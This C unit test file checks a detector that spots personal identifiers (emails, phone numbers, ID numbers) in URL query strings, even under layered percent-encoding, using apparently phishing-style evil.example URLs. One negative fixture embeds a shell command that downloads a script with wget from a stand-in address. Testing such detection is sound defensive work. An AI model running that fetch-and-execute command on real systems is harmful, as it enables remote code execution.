/* SPDX-License-Identifier: Apache-2.0 */
/* test_collect.c - URLs that speak of one person are told from those that speak of a place. */
#include "test.h"

#include "cmd/collect.h"

static bool personal(const char *url)
{
	struct arena *a = arena_open();
	bool yes = collect_query_is_personal(str_of(url), a);

	arena_close(a);
	return yes;
}

TEST(a_victims_identifier_in_a_query_is_seen_however_often_it_is_encoded)
{
	static const char *const urls[] = {
		"evil.example/kit?email=zhang.san@mail.example",
		"evil.example/kit?e=1&u=zhang.san%40mail.example",
		"evil.example/kit?u=zhang.san%2540mail.example",
		"evil.example/kit?u=zhang.san%25252540mail.example",
		"evil.example/kit?%7A%68%61%6E%67%40mail%2Eexample",
		"evil.example/?tel=13912345678",
		"evil.example/?tel=%2B86%20139-1234-5678",
		"evil.example/?tel=1%339%31234%35678",
		"evil.example/?id=11010519491231002X",
	};

	for (size_t i = 0; i < sizeof urls / sizeof *urls; i++)
		if (!personal(urls[i]))
			fail_msg("%s", urls[i]);
}

TEST(a_query_without_one_and_what_is_no_query_stay)
{
	static const char *const urls[] = {
		"evil.example/",
		"evil.example/?",
		"evil.example/kit?id=1&ts=1638123456789",
		"evil.example/kit?h=13912345678139123456781391234567",
		"evil.example/kit?u=13912345-1391-4391-8391-13912345678a",
		"evil.example/shell?cd+/tmp;wget+http://192.0.2.7:8088/m.sh",
		"evil.example/kit?a=%&b=%4&c=%zz&d=%00",
		"evil.example/zhang.san@mail.example/13912345678",
	};

	for (size_t i = 0; i < sizeof urls / sizeof *urls; i++)
		if (personal(urls[i]))
			fail_msg("%s", urls[i]);
}

TESTS("cmd/collect", CASE(a_victims_identifier_in_a_query_is_seen_however_often_it_is_encoded),
      CASE(a_query_without_one_and_what_is_no_query_stay))
